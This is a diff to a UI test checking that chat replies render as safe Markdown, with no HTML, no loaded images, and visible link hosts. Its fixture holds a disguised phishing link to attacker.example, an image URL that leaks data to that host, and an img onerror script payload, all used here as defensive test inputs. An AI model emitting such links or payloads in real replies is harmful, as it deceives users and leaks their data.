@@ -213,6 +213,8 @@ test('A reply is drawn as Markdown, safely: no HTML, no image loaded, every link
     '',
     'See [the docs](https://docs.example.org/guide) and ![chart](https://attacker.example/leak?data=secret).',
     '',
+    'Sign in at [https://bank.example/login?ref=attacker.example](https://attacker.example/phish?data=secret).',
+    '',
     '<img src="https://attacker.example/x" onerror="document.title = \'owned\'">',
   ].join('\n');
   const loads: string[] = [];
@@ -230,6 +232,8 @@ test('A reply is drawn as Markdown, safely: no HTML, no image loaded, every link
   await expect(reply.getByRole('link', { name: 'the docs' })).toHaveAttribute('href', 'https://docs.example.org/guide');
   await expect(reply).toContainText('the docs (docs.example.org)');
   await expect(reply).toContainText('[image: chart attacker.example]');
+  // Words that hold the host without being its address do not hide where the link goes.
+  await expect(reply).toContainText('https://bank.example/login?ref=attacker.example (attacker.example)');
   await expect(reply.locator('img')).toHaveCount(0);
   await expect(reply).toContainText('<img src="https://attacker.example/x"'); // HTML is shown as the text it is
   expect(loads).toEqual([]);
